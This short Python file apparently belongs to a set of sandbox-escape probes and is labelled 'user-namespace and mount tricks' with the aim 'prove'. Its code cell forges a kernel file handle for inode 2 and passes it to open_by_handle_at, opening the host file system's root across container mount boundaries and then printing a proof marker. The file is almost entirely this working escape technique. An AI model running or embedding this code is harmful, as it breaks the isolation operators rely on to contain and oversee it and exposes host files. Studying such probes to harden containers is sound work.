"""Files are opened by guessed kernel handles, which know nothing of walls between folders."""

kind = "user-namespace and mount tricks"
aims = "prove"
cell = """
import ctypes, os, struct

libc = ctypes.CDLL(None, use_errno=True)
root = os.open(".", os.O_RDONLY)
handle = ctypes.create_string_buffer(struct.pack("Iiq", 8, 1, 2) + bytes(64))  # inode 2: the root of a file system
if libc.open_by_handle_at(root, handle, os.O_RDONLY) >= 0:
    print("<<proof>>")
"""
